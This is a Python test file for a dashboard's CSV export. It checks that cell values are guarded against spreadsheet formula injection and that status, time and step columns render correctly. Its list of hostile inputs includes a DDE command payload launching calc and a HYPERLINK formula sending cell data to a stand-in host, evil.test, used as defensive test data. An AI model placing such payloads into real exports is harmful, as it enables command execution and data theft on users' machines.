"""Cells of an export: what the list shows, in a form that no spreadsheet takes for a formula."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from dashboard.models import Instance, InstanceState, Workflow
from dashboard.services.cells import CELLS, guarded

# What has been used against spreadsheets, and the shapes that a check of the first letter alone lets through.
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0=1+1", " \u00a0\u2003@x", "\ufeff=1", "\u200b=1",
    "harmless\n=1+1", "harmless\r\n=1+1", "harmless\r=1+1", "harmless\n \u00a0+1", "harmless\u2028=1", "a;=1+1", "a\t=1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1,"open")', '"=1+1', "＝1+1", "-5", "+49 30 1234", "@handle", "\n\n=1",
)  # fmt: skip
HARMLESS = (
    "",
    "NDA Lindqvist",
    "O'Brien",
    "2026-12-01T08:00:00Z",
    "3 of 7",
    "a - b = c",
    "A-1",
    "two\r\n\r\nlines",
    "é@x",
)


def lines_of(text: str) -> list[str]:
    return text.replace(";", "\n").replace("\t", "\n").splitlines() or [text]


def looks_like_a_formula(text: str) -> bool:
    return text.lstrip(" \u00a0\u2003\ufeff\u200b")[:1] in set("=+-@\t\r＝＋－＠") - {""} and text.strip() != ""


@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.startswith('"')])
def test_a_text_that_may_become_a_formula_begins_with_an_apostrophe(text: str) -> None:
    """S-14: after spaces and no-break spaces, and after each newline."""
    safe = guarded(text)
    assert safe.startswith("'")
    assert not [line for line in lines_of(safe) if looks_like_a_formula(line)]


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text())
@example("\r\n=1")
@example("a\r\n\r\n-1")
def test_nothing_but_apostrophes_is_added_and_no_line_is_left_that_is_a_formula(text: str) -> None:
    """S-14: for every text."""
    safe = guarded(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert not [line for line in lines_of(safe) if looks_like_a_formula(line)]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), min_size=1))
def test_what_is_written_as_csv_is_read_back_as_it_was(rows: list[list[str]]) -> None:
    """T-P: the CSV round trip, whatever quotes, commas and line ends a name holds."""
    safe = [[guarded(text) for text in row] for row in rows]
    written = io.StringIO(newline="")
    csv.writer(written, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(safe)
    assert list(csv.reader(io.StringIO(written.getvalue(), newline=""))) == safe


def row(**columns: object) -> Instance:
    made = {"status": InstanceState.IN_PROGRESS, "raw_status": "In Progress", "workflow": Workflow(name="Supplier NDA")}
    return Instance(**(made | columns))


@pytest.mark.parametrize(
    ("columns", "word"),
    [
        ({}, "In progress"),
        ({"raw_status": "IN_PROGRESS"}, "In progress"),
        ({"status": InstanceState.FAILED, "raw_status": "Faulted"}, "Failed (Docusign: Faulted)"),
        ({"status": InstanceState.UNKNOWN, "raw_status": "Awaiting Sync"}, "Awaiting Sync"),
        ({"raw_status": ""}, "In progress"),
    ],
)
def test_a_state_is_our_word_with_docusigns_own_where_it_differs(columns: dict[str, str], word: str) -> None:
    assert CELLS["state"](row(**columns)) == word


def test_times_are_iso_8601_in_utc() -> None:
    at = datetime(2026, 5, 12, 8, 31, 40, 123456, tzinfo=UTC)
    assert CELLS["started"](row(started_at=at)) == "2026-05-12T08:31:40Z"
    assert CELLS["started"](row()) == ""


def test_an_instance_that_ended_has_no_expiry_any_more() -> None:
    at = datetime(2026, 5, 12, tzinfo=UTC)
    assert CELLS["expires"](row(expires_at=at)) == "2026-05-12T00:00:00Z"
    assert CELLS["expires"](row(expires_at=at, status=InstanceState.COMPLETED)) == ""


def test_steps_are_told_as_far_as_they_are_known() -> None:
    told = row(total_steps=7, last_completed_step=3, last_completed_step_name="Manager review")
    assert CELLS["steps"](told) == "3 of 7 steps done, last Manager review"
    assert CELLS["steps"](row(total_steps=None, last_completed_step=3)) == ""
